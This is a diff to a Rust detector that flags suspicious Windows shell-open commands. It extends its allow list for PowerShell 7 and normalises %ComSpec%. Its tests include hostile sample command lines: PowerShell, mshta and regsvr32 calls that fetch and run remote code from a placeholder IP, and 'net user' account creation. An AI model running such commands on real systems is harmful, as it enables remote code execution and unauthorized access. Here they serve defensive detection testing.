@@ -104,14 +104,17 @@ const CODE: [&str; 13] = [
     "wmic",
     "wscript",
 ];
-/// What follows them in the commands that Windows brings, in lower case: a console in a folder, and a script of
-/// PowerShell.
-const OF_WINDOWS: [&str; 5] = [
+/// What follows them in the commands that Windows and PowerShell 7 bring, in lower case: a console in a folder, and
+/// a script of PowerShell.
+const OF_WINDOWS: [&str; 8] = [
     r#"/s /k pushd "%v""#,
     r#"-noexit -command set-location -literalpath '%v'"#,
     r#"-noexit -command set-location -literalpath '%l'"#,
     r#""-command" "if((get-executionpolicy ) -ne 'allsigned') { set-executionpolicy -scope process bypass }; & '%1'""#,
     r#""-noexit" "-command" "set-location -literalpath '%v'""#,
+    r#"-noexit -removeworkingdirectorytrailingcharacter -workingdirectory "%v!" -command "$host.ui.rawui.windowtitle = 'powershell 7 (x64)'""#,
+    r#"-noexit -removeworkingdirectorytrailingcharacter -workingdirectory "%v!" -command "$host.ui.rawui.windowtitle = 'powershell 7 (x86)'""#,
+    r#"-noexit -removeworkingdirectorytrailingcharacter -workingdirectory "%v!" -command "$host.ui.rawui.windowtitle = 'powershell 7-preview (x64)'""#,
 ];
 /// Classes of a hive, and where they begin in it.
 struct Root<'w> {
@@ -184,7 +187,8 @@ fn without_file(text: &str) -> String {
 /// True for the command of a host of code that is told more than what is opened, and otherwise than Windows has
 /// it.
 fn carries_more(text: &str) -> bool {
-    let all = readings(text);
+    let text = text.to_lowercase().replace("%comspec%", "cmd.exe");
+    let all = readings(&text);
     let host = all.iter().find(|reading| {
         let name = program_name(&reading.program);
         CODE.contains(&name.as_str())
@@ -486,6 +490,7 @@ mod tests {
             r#""C:\Windows\system32\REGSVR32.EXE" /u /n /i:"%1" "C:\Windows\system32\scrobj.dll""#,
             r"powershell.exe -noexit -command Set-Location -literalPath '%V'",
             r#""C:\Program Files\App\app.exe" -c "iex x""#,
+            r#"C:\Program Files\PowerShell\7\pwsh.exe -NoExit -RemoveWorkingDirectoryTrailingCharacter -WorkingDirectory "%V!" -Command "$host.UI.RawUI.WindowTitle = 'PowerShell 7 (x64)'""#,
         ] {
             assert!(!carries_more(usual), "{usual}");
         }
@@ -493,6 +498,7 @@ mod tests {
             r#"powershell.exe -c "iex (iwr http://203.0.113.7/a)""#,
             r#"cmd.exe /c net user a b /add & notepad "%1""#,
             "mshta.exe http://203.0.113.7/a.hta",
+            "%ComSpec% /c net user a b /add",
             r#"wscript.exe C:\ProgramData\x.txt "%1""#,
             r"regsvr32 /s /i:http://203.0.113.7/a scrobj.dll",
         ] {
